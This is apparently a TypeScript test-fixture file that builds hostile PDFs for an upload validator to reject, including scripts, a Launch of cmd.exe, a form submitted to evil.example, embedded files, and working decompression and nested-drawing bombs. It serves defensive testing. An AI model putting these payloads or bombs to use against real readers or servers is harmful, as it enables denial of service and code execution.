import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import type { ProblemCode } from '../../src/contract/problem.ts';
import { byDepth } from '../depth.ts';
import { makePdf } from '../shop/pdfs.ts';
import { ONE_PAGE, type RawObject, packed, rawPdf, withCatalog, withPage } from './raw-pdf.ts';

export type BadFile = {
  readonly what: string;
  readonly bytes: () => Promise<Uint8Array<ArrayBuffer>> | Uint8Array<ArrayBuffer>;
  readonly code: ProblemCode;
  readonly status: number;
  /** A part of what the owner reads. */
  readonly says: string | RegExp;
};

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, ...Array(100).fill(7)]);
const text = (words: string) => new Uint8Array(Buffer.from(words, 'latin1'));

const MEBIBYTE = 1024 * 1024;
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const ATTACHED = '<< /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>';
const JAVASCRIPT = 'JavaScript';
const ADDRESS = '<< /S /URI /URI (https://x.example) >>';
const ATTACHED_WORDS = 'other files attached';
const ON_ITS_OWN = 'on its own';

const cut = async (share: number, isPacked: boolean) => {
  const bytes = await makePdf({ pages: 20, packed: isPacked });
  return bytes.slice(0, Math.floor(share * bytes.byteLength));
};

const annotation = (entries: string): RawObject[] =>
  withPage('/Annots [4 0 R]', `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`);
const onLink = (action: string) => annotation(`/Subtype /Link /A ${action}`);
const onOpening = (action: string, ...more: RawObject[]) =>
  withCatalog(`/OpenAction ${action}`, ...more);
const goingOn = (action: string) => `<< /S /GoTo /D [3 0 R /Fit] /Next ${action} >>`;
const named = (what: string, ...objects: RawObject[]) =>
  withCatalog(`/Names << /${what} << /Names [(a) 4 0 R] >> >>`, ...objects);

const ACTIVE: readonly (readonly [what: string, says: string, objects: RawObject[]])[] = [
  ['a script that runs when it opens', JAVASCRIPT, onOpening(SCRIPT)],
  ['a script among its names', JAVASCRIPT, named('JavaScript', SCRIPT)],
  ['a script that runs when it is printed', ON_ITS_OWN, withCatalog(`/AA << /WP ${SCRIPT} >>`)],
  ['a script on a link', JAVASCRIPT, onLink(SCRIPT)],
  ['a script behind a harmless action', JAVASCRIPT, onOpening(goingOn('[4 0 R]'), SCRIPT)],
  ['a script under an escaped name', JAVASCRIPT, onOpening('<< /S /J#61va#53cript /#4a#53 (x) >>')],
  ['a link that starts a program', 'starts a program', onLink('<< /S /Launch /F (cmd.exe) >>')],
  [
    'a form that is sent away',
    'sends what is typed',
    onOpening('<< /S /SubmitForm /F (https://evil.example) >>'),
  ],
  [
    'a form that is a program',
    'a form that is a program',
    withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', packed('<xdp/>')),
  ],
  ['data to import', 'reads files', onOpening('<< /S /ImportData /F (a.fdf) >>')],
  ['a link into an attachment', 'attached file', onOpening('<< /S /GoToE >>')],
  [
    'an embedded file',
    ATTACHED_WORDS,
    named('EmbeddedFiles', ATTACHED, packed('hello', '/Type /EmbeddedFile')),
  ],
  ['a file on a page', ATTACHED_WORDS, annotation('/Subtype /FileAttachment')],
  ...['RichMedia', 'Movie', 'Sound', 'Screen', '3D'].map(
    (kind) => [`a ${kind}`, 'multimedia', annotation(`/Subtype /${kind}`)] as const,
  ),
  ...['Movie', 'Sound', 'Rendition'].map(
    (kind) => [`a link that plays a ${kind}`, 'multimedia', onLink(`<< /S /${kind} >>`)] as const,
  ),
  ['an address to open on its own', ON_ITS_OWN, onOpening(ADDRESS)],
  ['an address that is referred to', ON_ITS_OWN, onOpening('4 0 R', ADDRESS)],
  ['an address behind a place to begin at', ON_ITS_OWN, onOpening(goingOn(ADDRESS))],
  ['an address to open with a page', ON_ITS_OWN, withPage(`/AA << /O ${ADDRESS} >>`)],
];

/** As LibreOffice writes the document that a hybrid PDF was made of. */
const ODT = packed('mimetype', '/Type /OpenDocument');
const STREAMS = '/AdditionalStreams [/application#2Fvnd#2Eoasis#2Eopendocument#2Etext 4 0 R]';

const hybrid = (): Uint8Array<ArrayBuffer> =>
  rawPdf([...ONE_PAGE, ODT], { trailer: `${STREAMS} /DocChecksum /0A1B` });

/** What is added later has a trailer of its own, without them. */
const hybridWithUpdate = async (): Promise<Uint8Array<ArrayBuffer>> => {
  const document = await PDFDocument.load(hybrid(), { forIncrementalUpdate: true });
  document.setTitle('After');
  return new Uint8Array(await document.save({ useObjectStreams: false }));
};

/** With its trailer in a stream, as programs write newer files. */
const packedHybrid = async (): Promise<Uint8Array<ArrayBuffer>> => {
  const bytes = await makePdf({}, ({ context }) => context.register(context.stream('mimetype')));
  const plain = Buffer.from(bytes).toString('latin1');
  return text(plain.replace('/Type /XRef', `/Type /XRef ${STREAMS}`));
};

/** A page that shows a picture of that size. */
const picture = (width: number, height: number) => () =>
  rawPdf(
    withPage(
      '/Resources << /XObject << /P 4 0 R >> >> /Contents 5 0 R',
      packed('x', `/Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 1`),
      packed('99 0 0 99 0 0 cm /P Do'),
    ),
  );

/** A page of these streams, one after another. */
const written = (...contents: RawObject[]) => {
  const references = contents.map((_, index) => `${index + 4} 0 R`).join(' ');
  return rawPdf(withPage(`/Contents [${references}]`, ...contents));
};

const form = (more: string): string => `/Subtype /Form /BBox [0 0 9 9] ${more}`;

/** The objects from 5 on: drawings in drawings, each four times in the next, so that the first has 4^30. */
const nestedDrawings = (): RawObject[] => {
  const next = (n: number) => form(`/Resources << /XObject << /F ${n + 6} 0 R >> >>`);
  const drawings = Array.from({ length: 30 }, (_, n) => packed('/F Do '.repeat(4), next(n)));
  return [...drawings, packed('0 0 9 9 re f', form(''))];
};

const FIRST_DRAWING = '/Resources << /XObject << /F 5 0 R >> >>';

/** What no reader comes upon before it draws the page. */
const patternOfDrawings = () => {
  const cell = `/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9`;
  const pattern = packed('/F Do', `${cell} ${FIRST_DRAWING}`);
  const drawings = nestedDrawings();
  const number = 5 + drawings.length;
  const resources = `/Resources << /Pattern << /P 4 0 R >> >> /Contents ${number} 0 R`;
  const page = packed('/Pattern cs /P scn 0 0 99 99 re f');
  return rawPdf(withPage(resources, pattern, ...drawings, page));
};

type Bytes = BadFile['bytes'];

const refused = (
  what: string,
  code: ProblemCode,
  says: string | RegExp,
  bytes: Bytes,
  status = 422,
): BadFile => ({ what, bytes, code, status, says });

const BOMB_WORDS = /^(The|One) .* with smaller images, or in parts\.$/;

const bomb = (what: string, bytes: Bytes): BadFile =>
  refused(`a bomb: ${what}`, 'pdf_too_dense', BOMB_WORDS, bytes);

/** What these unpack to, where it is known. */
export const BOMB_BYTES = 1200 * MEBIBYTE;

const DRAWN_BOMBS = [
  bomb('a picture of 20,000 by 20,000', picture(20_000, 20_000)),
  bomb('a picture of 90,000 by 90,000', picture(90_000, 90_000)),
  bomb('drawings in drawings', () =>
    rawPdf(withPage(`${FIRST_DRAWING} /Contents 4 0 R`, packed('/F Do'), ...nestedDrawings())),
  ),
  bomb('drawings in a pattern', patternOfDrawings),
  bomb('a page of 1200 MB in two layers', () => {
    const part = deflateSync(packed(Buffer.alloc(BOMB_BYTES / 12, ' ')).data);
    const dict = '/Filter [/FlateDecode /FlateDecode]';
    return written(...Array.from({ length: 12 }, () => ({ dict, data: part })));
  }),
];

/** Slow to refuse. The page in two layers stands for them by day. */
const MORE_BOMBS = [
  bomb('a page of 1200 MB', () => {
    const part = packed(Buffer.alloc(BOMB_BYTES / 12, ' '));
    return written(...Array<RawObject>(12).fill(part));
  }),
  bomb('lines without number', () => written(packed('0 0 m 9 9 l S\n'.repeat(8_000_000)))),
  bomb('values without number', () => rawPdf(withPage(`/A [${'0 '.repeat(8_000_000)}]`))),
];

export const BOMBS: readonly BadFile[] = [...DRAWN_BOMBS, ...byDepth([], MORE_BOMBS)];

const broken = (what: string, bytes: Bytes, says = 'export it again'): BadFile =>
  refused(what, 'pdf_broken', says, bytes);

const PAGES = '<< /Type /Catalog /Pages 2 0 R >>';

const manyPages = (count: number): Uint8Array<ArrayBuffer> => {
  const kids = Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ');
  const pages = Array<string>(count).fill(ONE_PAGE[2]);
  return rawPdf([PAGES, `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, ...pages]);
};

/** A tree in which each branch hangs twice. */
const samePage = (depth: number): Uint8Array<ArrayBuffer> => {
  const branches = Array.from({ length: depth }, (_, n) => {
    const kid = `${n + 3} 0 R`;
    return `<< /Type /Pages /Kids [${kid} ${kid}] /Count ${2 ** (depth - n)} >>`;
  });
  return rawPdf([PAGES, ...branches, ONE_PAGE[2]]);
};

const cutInUpdate = async (): Promise<Uint8Array<ArrayBuffer>> => {
  const document = await PDFDocument.load(await makePdf({ packed: false }), {
    forIncrementalUpdate: true,
  });
  for (let page = 0; page < 20; page += 1) document.addPage();
  const bytes = new Uint8Array(await document.save({ useObjectStreams: false }));
  return bytes.slice(0, -500);
};

/** Every kind of file that no buyer may ever get, and why. */
export const BAD_FILES: readonly BadFile[] = [
  refused('a renamed PNG', 'file_not_pdf', 'Please upload a PDF file.', () => PNG, 415),
  refused('an empty file', 'file_empty', 'empty', () => new Uint8Array()),
  broken('an HTML page with the header of a PDF', () =>
    text('%PDF-1.7\n<html><script>alert(1)</script></html>'),
  ),
  broken('an HTML page with header and end of a PDF', () =>
    text('%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF'),
  ),
  ...[0.02, 0.3, 0.7, 0.99].flatMap((share) =>
    [false, true].map((isPacked) =>
      broken(`a PDF cut off at ${share * 100} % (packed: ${isPacked})`, () => cut(share, isPacked)),
    ),
  ),
  broken('a PDF cut off in what was added to it', cutInUpdate, 'end of the PDF is missing'),
  broken('a PDF without pages', () => rawPdf([PAGES, '<< /Type /Pages /Kids [] /Count 0 >>'])),
  broken('a PDF whose pages go round in a circle', () =>
    rawPdf([PAGES, '<< /Type /Pages /Kids [2 0 R] >>']),
  ),
  broken(
    'a PDF that says that it has more pages than it has',
    () => rawPdf([PAGES, '<< /Type /Pages /Kids [3 0 R] /Count 2 >>', ONE_PAGE[2]]),
    'Page 2',
  ),
  refused('an encrypted PDF', 'pdf_encrypted', 'protected', () =>
    makePdf({}, (document) => document.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
  ),
  refused('a PDF that only its owner may change', 'pdf_encrypted', 'protected', () =>
    makePdf({ packed: false }, (document) => document.encrypt({ ownerPassword: 'b' })),
  ),
  refused('a PDF of 501 pages', 'pdf_too_many_pages', '501 pages', () => manyPages(501)),
  refused('a PDF that shows one page 1,024 times', 'pdf_too_many_pages', '1024 pages', () =>
    samePage(10),
  ),
  refused(
    'a PDF of 19 MB',
    'file_too_large',
    'MB',
    () => rawPdf([...ONE_PAGE, { dict: '', data: new Uint8Array(19 * MEBIBYTE) }]),
    413,
  ),
  refused('a PDF with a script that is packed away', 'pdf_active_content', JAVASCRIPT, () =>
    makePdf({}, (document) => document.addJavaScript('greet', 'app.alert(1)')),
  ),
  ...ACTIVE.map(([what, says, objects]) =>
    refused(`a PDF with ${what}`, 'pdf_active_content', says, () => rawPdf(objects)),
  ),
  refused('a hybrid PDF', 'pdf_active_content', ATTACHED_WORDS, hybrid),
  refused('a hybrid PDF that was added to', 'pdf_active_content', ATTACHED_WORDS, hybridWithUpdate),
  refused('a hybrid PDF, packed', 'pdf_active_content', ATTACHED_WORDS, packedHybrid),
  ...BOMBS,
];
